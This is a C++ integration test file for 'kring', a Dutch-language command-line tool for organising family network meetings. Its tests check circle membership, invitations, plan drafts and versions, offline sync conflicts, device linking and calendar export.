  const std::string sanne = k.Account("sanne"), ria = k.Account("ria");
  k.Ok("fatima", "sync");
  k.Ok("fatima", "circle propose --name Sanne --kind resident --account " + sanne);
  k.Ok("fatima",
       "circle propose --name 'Tante Ria' --kind family --relation tante --account " + ria);
  k.Ok("fatima", "circle approve Sanne");
  k.Ok("fatima", "circle approve 'Tante Ria'");
  k.Ok("fatima", "poll create --slot now+7d@19:30");
  k.Ok("fatima",
       "poll fix 1 --coarse 'Bij Sanne thuis' --exact 'Kerkstraat 12' "
       "--no-pretalk-reason 'Spoed.'");
  k.Ok("fatima", "meeting phase informatie");
  k.Ok("sanne", "sync");
  k.Ok("sanne", "meeting private-time");
  k.Ok("ria", "sync");
  // An agreement in private time: what is true now and when that changes, no talk of ids.
  Run added = k.As("ria", "agreement add --action 'Oom Henk belt de woningbouw' --due now+14d");
  INFO(added.all);
  REQUIRE(added.exit_code == 0);
  CHECK(added.out.find("Het is eigen tijd: alleen het netwerk leest deze afspraak. Na het "
                       "vrijgeven (kring meeting release) lezen de anderen haar ook.") !=
        std::string::npos);
  CHECK(added.out.find("nummer") == std::string::npos);
  // The chair drafts without saying what to do if it goes wrong; Ria changes it.
  Run drafted = k.As("sanne", "plan draft --ik-wil 'Rust in huis.' --contact-person 'Tante Ria'");
  INFO(drafted.all);
  REQUIRE(drafted.exit_code == 0);
  CHECK(drafted.out.find("Concept gemaakt. Alleen het netwerk ziet het.\n") != std::string::npos);
  std::smatch m;
  REQUIRE(std::regex_search(drafted.out, m, std::regex("concept ([0-9a-f]{32})")));
  const std::string draft = m[1];
  k.Ok("ria", "sync");
  k.Ok("ria", "plan update " + draft + " --ik-kan 'Koken.'");
  // The preview's command is one to type as it is.
  Run preview = k.As("ria", "meeting release");
  CHECK(preview.exit_code == 2);
  CHECK(preview.out.find("Geef vrij met: kring meeting release --yes") != std::string::npos);
  CHECK(preview.out.find("(kring plan release)") != std::string::npos);
  k.Ok("ria", "meeting release --yes");
  // The release refused for what the draft lacks names the option that gives it.
  Run lacking = k.As("ria", "plan release " + draft);
  INFO(lacking.all);
  CHECK(lacking.exit_code == 1);
  CHECK(lacking.all.find("Vul het concept aan met: kring plan update " + draft +
                         " --contingency TEKST") != std::string::npos);
  k.Ok("ria", "plan update " + draft + " --contingency 'Bel Ria.'");
  // The version by the number people use for it, not its id.
  Run released = k.As("ria", "plan release " + draft);
  INFO(released.all);
  REQUIRE(released.exit_code == 0);
  CHECK(released.out.find("versie 1\n") != std::string::npos);
  CHECK(!std::regex_search(released.out, std::regex("[0-9a-f]{32}")));
  const Value versions = k.Json("ria", "plan versions");
  REQUIRE(versions.list_value().values_size() == 1);
  CHECK(At(versions.list_value().values(0), "number").number_value() == 1);
  // Who wrote the draft first, who changed it last, and that it was released.
  Run drafts = k.As("ria", "plan drafts");
  INFO(drafts.all);
  CHECK(drafts.out.find("geschreven door Sanne, laatst veranderd door Tante Ria, vrijgegeven als "
                        "versie 1") != std::string::npos);
  const Value listed = k.Json("ria", "plan drafts");
  REQUIRE(listed.list_value().values_size() == 1);
  CHECK(At(listed.list_value().values(0), "first_by").string_value() == sanne);
  CHECK(At(listed.list_value().values(0), "by").string_value() == ria);
  CHECK(At(listed.list_value().values(0), "released_as").number_value() == 1);
  // After the network's version a new network draft is one the network cannot release: said so,
  // with who can. The resident can, as told.
  Run late = k.As("ria",
                  "plan draft --ik-wil 'Nog rustiger.' --contingency 'Bel Ria.' "
                  "--contact-person 'Tante Ria'");
  INFO(late.all);
  REQUIRE(late.exit_code == 0);
  REQUIRE(std::regex_search(late.out, m, std::regex("concept ([0-9a-f]{32})")));
  const std::string second = m[1];
  CHECK(late.out.find("Het netwerk heeft zijn plan al vrijgegeven. Daarom kan het netwerk dit "
                      "concept niet meer vrijgeven. De hoofdpersoon kan dat wel, met: kring plan "
                      "release " +
                      second) != std::string::npos);
  CHECK(late.out.find("Alleen het netwerk ziet het.\n") == std::string::npos);
  CHECK(k.As("ria", "plan release " + second).exit_code == 1);
  k.Ok("sanne", "sync");
  Run by_chair = k.As("sanne", "plan release " + second);
  INFO(by_chair.all);
  REQUIRE(by_chair.exit_code == 0);
  CHECK(by_chair.out.find("versie 2\n") != std::string::npos);
}

TEST_CASE("Dutch words for roles invitation answers and conflicts", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  // Roles typed in Dutch where the English ones worked: case create, invite create, member role.
  const std::string cid = k.NewCase("sanne", {"fatima:gespreksleider", "ria:deelnemer"});
  const std::string ria = k.Account("ria");
  const Value made = k.Json("sanne", "invite create " + cid + " gespreksleider");
  const Value invites = k.Json("sanne", "invite list " + cid);
  REQUIRE(invites.list_value().values_size() == 1);
  CHECK(At(invites.list_value().values(0), "role").string_value() == "coordinator");
  CHECK(At(invites.list_value().values(0), "invite").string_value() ==
        At(made, "invite").string_value());
  Run promoted = k.As("sanne", "member role " + cid + " " + ria + " Gespreksleider");
  INFO(promoted.all);
  CHECK(promoted.exit_code == 0);
  Run back = k.As("sanne", "member role " + cid + " " + ria + " deelnemer");
  INFO(back.all);
  CHECK(back.exit_code == 0);
  CHECK(k.As("sanne", "member role " + cid + " " + ria + " baas").exit_code == 2);

  // How someone without the app answered, in the words `invitation status` shows.
  k.Ok("fatima", "sync");
  k.Ok("fatima", "circle propose --name Sanne --kind resident --account " + k.Account("sanne"));
  k.Ok("fatima", "circle approve Sanne");
  k.Ok("fatima", "circle propose --name 'Oom Piet' --kind family --relation oom");
  k.Ok("fatima", "circle approve 'Oom Piet'");
  Run word = k.As("fatima", "invitation record 'Oom Piet' misschien");
  CHECK(word.exit_code == 2);
  CHECK(word.all.find("Kies: uitgenodigd, aangenomen of afgewezen.") != std::string::npos);
  Run recorded = k.As("fatima", "invitation record 'Oom Piet' Aangenomen");
  INFO(recorded.all);
  REQUIRE(recorded.exit_code == 0);
  CHECK(recorded.out.find("Uitnodiging vastgelegd: aangenomen, wacht op goedkeuring.") !=
        std::string::npos);
  CHECK(k.As("fatima", "invitation status 'Oom Piet'").out == "aangenomen, wacht op goedkeuring\n");
  k.Ok("fatima", "invitation record 'Oom Piet' declined");  // the English word still works
  CHECK(k.As("fatima", "invitation status 'Oom Piet'").out == "afgewezen\n");

  // The app invitation's lines in the user's language.
  Run app = k.As("fatima", "invitation app 'Oom Piet'");
  INFO(app.all);
  REQUIRE(app.exit_code == 0);
  CHECK(std::regex_search(app.out, std::regex("^uitnodiging [0-9a-f]{32}\nlink kring://")));
  CHECK(app.out.find("invite ") == std::string::npos);
  CHECK(k.As("fatima", "--lang en invitation app 'Oom Piet'").out.rfind("invite ", 0) == 0);

  // Where the meeting is, set on two devices at once: the kinds in words, who wrote which and
  // which came in last, and Dutch words to keep one.
  k.Ok("fatima", "poll create --slot now+7d@19:30");
  k.Ok("fatima",
       "poll fix 1 --coarse 'Bij Sanne thuis' --exact 'Kerkstraat 12' "
       "--no-pretalk-reason 'Spoed.'");
  k.Ok("sanne", "sync");
  k.Ok("sanne",
       "meeting location --coarse 'Bij Sanne thuis' --exact 'Kerkstraat 12' --kind online");
  k.Ok("fatima",
       "meeting location --coarse 'Bij Sanne thuis' --exact 'Kerkstraat 12' --kind "
       "locatie");
  k.Ok("sanne", "sync");
  Run values = k.As("sanne", "conflicts --values");
  INFO(values.all);
  REQUIRE(values.exit_code == 0);
  CHECK(values.out.find("soort plek") != std::string::npos);
  // Fatima's came in last; she has no person in the circle, so her role names her.
  CHECK(values.out.find("\"locatie\", geschreven door gespreksleider, kwam als laatste binnen\n") !=
        std::string::npos);
  CHECK(values.out.find("\"online\", geschreven door jou, kwam eerder binnen\n") !=
        std::string::npos);
  CHECK(values.out.find("\"venue\"") == std::string::npos);
  CHECK(values.out.find("volgnummer") == std::string::npos);
  CHECK(values.out.find(" --keep andere\n") != std::string::npos);
  CHECK(k.As("sanne", "--lang en conflicts --values").out.find("\"venue\"") != std::string::npos);
  const Value open = k.Json("sanne", "conflicts");
  REQUIRE(open.list_value().values_size() >= 1);
  std::string meeting;
  for (const Value& c : open.list_value().values()) {
    if (At(c, "field").string_value() == "location_kind") meeting = At(c, "entity").string_value();
  }
  REQUIRE(!meeting.empty());
  k.Ok("sanne", "conflicts resolve --entity " + meeting + " --field location_kind --keep Andere");
  // Named: a range-for over a member of a temporary reads freed memory (before C++23).
  const Value after = k.Json("sanne", "conflicts");
  for (const Value& c : after.list_value().values()) {
    CHECK(At(c, "field").string_value() != "location_kind");
  }
}

// A version written offline from an old view lands after one its writer never saw: listed by
// kring conflicts with both numbers, marked by plan show, and not "resolved" by writing a field.
TEST_CASE("a plan version from an old view shows as a conflict", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const auto [cid, post, shop] = AcceptedPlanWithTwoAgreements(k);
  const std::string offline = "127.0.0.1:1";
  Run queued = k.As("fatima",
                    "plan publish --ik-wil 'Verhuizen.' --contingency 'Bel Ria.' "
                    "--contact-person 'Tante Ria'",
                    offline);
  INFO(queued.all);
  REQUIRE(queued.exit_code == 0);
  k.Ok("sanne",
       "plan publish --ik-wil 'Meer rust.' --contingency 'Bel Ria.' --contact-person 'Tante Ria'");
  k.Ok("fatima", "sync");
  k.Ok("sanne", "sync");
  for (const char* who : {"sanne", "fatima"}) {
    const Value open = k.Json(who, "conflicts");
    REQUIRE(open.list_value().values_size() == 1);
    const Value& c = open.list_value().values(0);
    CHECK(At(c, "type").string_value() == "plan_version");
    CHECK(At(c, "field").string_value() == "based_on");
    CHECK(At(At(c, "current"), "value").number_value() == 3);
    CHECK(At(At(c, "other"), "value").number_value() == 2);
    const Run list = k.As(who, "conflicts");
    INFO(list.all);
    CHECK(list.out.find("Planversie 3 is gemaakt zonder versie 2 te zien.") != std::string::npos);
    CHECK(list.out.find("kring plan show 2, kring plan show 3") != std::string::npos);
    CHECK(list.out.find("conflicts resolve") == std::string::npos);
    const Run english = k.As(who, "--lang en conflicts");
    CHECK(english.out.find("was made without seeing version 2.") != std::string::npos);
    const Run shown = k.As(who, "plan show");
    CHECK(shown.out.find("Let op: deze versie is gemaakt zonder versie 2 te zien.") !=
          std::string::npos);
    CHECK(k.As(who, "plan show 2").out.find("Let op: deze versie") == std::string::npos);
    const Value json = k.Json(who, "plan show");
    CHECK(At(json, "based_on").number_value() == 1);
    CHECK(At(json, "skipped").number_value() == 2);
  }
  const std::string version =
      At(k.Json("sanne", "conflicts").list_value().values(0), "entity").string_value();
  const Run resolve =
      k.As("sanne", "conflicts resolve --entity " + version + " --field based_on --keep current");
  CHECK(resolve.exit_code != 0);
  CHECK(resolve.all.find("Een versie van het plan verandert niet.") != std::string::npos);
  // A version made with both in view ends the conflict; version 3 keeps its mark.
  k.Ok("sanne",
       "plan publish --ik-wil 'Verhuizen, met meer rust.' --contingency 'Bel Ria.' "
       "--contact-person 'Tante Ria'");
  k.Ok("fatima", "sync");
  for (const char* who : {"sanne", "fatima"}) {
    CHECK(k.Json(who, "conflicts").list_value().values_size() == 0);
    CHECK(k.As(who, "plan show 3")
              .out.find("Let op: deze versie is gemaakt zonder versie 2 te zien.") !=
          std::string::npos);
    CHECK(k.As(who, "plan show").out.find("Let op: deze versie") == std::string::npos);
  }
}

// A change this device made that reached the log but that a rule refused: the sync that brings
// it back says so, with why and without what it was.
TEST_CASE("a sync tells an own change a rule refused", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const auto [cid, post, shop] = AcceptedPlanWithTwoAgreements(k);
  // Only the chair writes the plan's settings; a raw change by Ria is queued offline.
  Run queued = k.As("ria", "entity create " + cid + " plan_settings", "127.0.0.1:1");
  INFO(queued.all);
  REQUIRE(queued.exit_code == 0);
  Run sync = k.As("ria", "sync");
  INFO(sync.all);
  CHECK(sync.exit_code == 0);
  CHECK(sync.all.find("Niet doorgegaan. Wijzigingen van dit apparaat die geen effect hadden: 1 "
                      "(--case " +
                      cid + "). Waarom: Dit mag alleen de hoofdpersoon.") != std::string::npos);
  // Told once.
  CHECK(k.As("ria", "sync").all.find("Niet doorgegaan") == std::string::npos);
  CHECK(k.As("sanne", "sync").all.find("Niet doorgegaan") == std::string::npos);
}

// A person entered by hand with an account that is not in the case yet reads "not in the app
// yet" and is invited with the app; only once that account was taken out of the case does the
// circle say they no longer take part.
TEST_CASE("a person linked to an account not in the case yet is invited with the app", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const std::string cid = k.NewCase("sanne", {"fatima:coordinator"});
  const std::string ria = k.Account("ria");
  k.Ok("fatima", "sync");
  k.Ok("fatima",
       "circle propose --name 'Tante Ria' --kind family --relation tante --account " + ria);
  k.Ok("fatima", "circle approve 'Tante Ria'");
  Run listed = k.As("fatima", "circle list");
  INFO(listed.all);
  CHECK(listed.out.find("nog niet in de app (uitnodigen: kring invitation app ") !=
        std::string::npos);
  CHECK(listed.out.find("doet niet meer mee") == std::string::npos);
  const Value before = k.Json("fatima", "circle list");
  REQUIRE(before.list_value().values_size() == 1);
  CHECK(At(before.list_value().values(0), "account_not_joined").bool_value());
  CHECK_FALSE(At(before.list_value().values(0), "account_removed").bool_value());
  CHECK(k.As("fatima", "--lang en circle list").out.find("not in the app yet") !=
        std::string::npos);

  Run invited = k.As("fatima", "invitation app 'Tante Ria'");
  INFO(invited.all);
  REQUIRE(invited.exit_code == 0);
  std::smatch m;
  REQUIRE(std::regex_search(invited.out, m, std::regex("link (\\S+)")));
  k.Ok("ria", "invite accept " + std::string(m[1]));
  k.Ok("sanne", "member approve " + cid + " 'Tante Ria'");
  k.Ok("fatima", "sync");
  Run joined = k.As("fatima", "circle list");
  CHECK(joined.out.find("met app") != std::string::npos);
  CHECK(joined.out.find("nog niet in de app") == std::string::npos);

  k.Ok("sanne", "member remove " + cid + " " + ria);
  k.Ok("fatima", "sync");
  Run removed = k.As("fatima", "circle list");
  CHECK(removed.out.find("doet niet meer mee met de app") != std::string::npos);
  Run again = k.As("fatima", "invitation app 'Tante Ria'");
  CHECK(again.exit_code == 1);
  CHECK(again.all.find("Het account van deze persoon is uit de casus gehaald.") !=
        std::string::npos);
}

// Two devices of one account that change the same thing at once are one person: the sync and
// the conflict list say it was changed on two of your devices, not that two people disagree.
TEST_CASE("a conflict between two of your own devices is not called two people", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const std::string cid = k.NewCase("sanne", {});
  // Sanne's laptop joins her account.
  Run request = k.As("laptop", "device link-request");
  INFO(request.all);
  REQUIRE(request.exit_code == 0);
  std::smatch m;
  REQUIRE(
      std::regex_search(request.out, m, std::regex("payload (kring://device-link/1/[0-9a-f]+)")));
  const std::string payload = m[1];
  REQUIRE(std::regex_search(request.out, m, std::regex("code ([0-9]{4} [0-9]{4})")));
  const std::string code = m[1];
  Run approve = k.As("sanne", "device approve " + payload + " '" + code + "'");
  INFO(approve.all);
  REQUIRE(approve.exit_code == 0);
  REQUIRE(std::regex_search(approve.out, m,
                            std::regex("approval (kring://device-approve/1/[0-9a-f/]+)")));
  k.Ok("laptop", "device link-finish " + std::string(m[1]));

  Run entity = k.As("sanne", "entity create " + cid + " notitie");
  REQUIRE(entity.exit_code == 0);
  REQUIRE(std::regex_search(entity.out, m, std::regex("([0-9a-f]{32})")));
  const std::string note = m[1];
  k.Ok("sanne", "sync");
  k.Ok("laptop", "sync");
  k.Ok("sanne", "field set " + cid + " " + note + " tekst 'Zaterdag koken'");
  k.Ok("laptop", "field set " + cid + " " + note + " tekst 'Zondag koken'");
  // The laptop's edit landed after the phone's: the phone's sync brings the conflict.
  Run brought = k.As("sanne", "sync");
  INFO(brought.all);
  REQUIRE(brought.exit_code == 0);
  CHECK(brought.all.find("Je veranderde hetzelfde op twee van jouw apparaten, op hetzelfde "
                         "moment. Nieuwe conflicten: 1.") != std::string::npos);
  CHECK(brought.all.find("Iemand veranderde") == std::string::npos);
  for (const char* device : {"sanne", "laptop"}) {
    Run listed = k.As(device, "conflicts");
    INFO(listed.all);
    REQUIRE(listed.exit_code == 0);
    CHECK(listed.out.find("Je veranderde tegelijk hetzelfde op twee van jouw apparaten.") !=
          std::string::npos);
    CHECK(listed.out.find("Op twee van jouw apparaten tegelijk veranderd.") != std::string::npos);
    CHECK(listed.out.find("Twee mensen") == std::string::npos);
    const Value json = k.Json(device, "conflicts");
    REQUIRE(json.list_value().values_size() == 1);
    CHECK(At(json.list_value().values(0), "own_devices").bool_value());
    CHECK(At(json.list_value().values(0), "one_account").bool_value());
  }
  CHECK(k.As("sanne", "conflicts --lang en", "", true).out.find("on two of your devices") !=
        std::string::npos);
}

// The kind of place given when the meeting is fixed (`--kind thuis`) is shown wherever its place
// is: meeting show, poll show once fixed, the calendar file, and --json.
TEST_CASE("the kind of place of the meeting is shown with its place", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  CaseWithCoordinator(k, "x");
  k.Ok("x", "poll create --slot now+2d --slot now+3d");
  CHECK(At(k.Json("x", "poll show"), "meeting").kind_case() == Value::kNullValue);
  CHECK(k.As("x", "poll show").out.find("Antwoord graag voor") != std::string::npos);
  k.Ok("x", "poll fix 1 --kind thuis --coarse 'Bij Sanne thuis' --exact 'Kerkstraat 12'");

  Run meeting = k.As("x", "meeting show");
  INFO(meeting.all);
  CHECK(meeting.out.find("Waar: Bij Sanne thuis\nSoort plek: thuis\n") != std::string::npos);
  CHECK(k.As("x", "--lang en meeting show").out.find("Kind of place: home") != std::string::npos);
  CHECK(At(k.Json("x", "meeting show"), "location_kind").string_value() == "home");

  Run poll = k.As("x", "poll show");
  INFO(poll.all);
  CHECK(poll.out.find("Het netwerkberaad staat vast: ") != std::string::npos);
  CHECK(poll.out.find("Waar: Bij Sanne thuis (thuis)") != std::string::npos);
  CHECK(poll.out.find("Antwoord graag voor") == std::string::npos);
  const Value fixed = At(k.Json("x", "poll show"), "meeting");
  CHECK(At(fixed, "location_kind").string_value() == "home");
  CHECK(At(fixed, "coarse_location").string_value() == "Bij Sanne thuis");

  Run ics = k.As("x", "export ics");
  INFO(ics.all);
  REQUIRE(ics.exit_code == 0);
  CHECK(ics.out.find("LOCATION:Thuis: Bij Sanne thuis\\nKerkstraat 12") != std::string::npos);
}
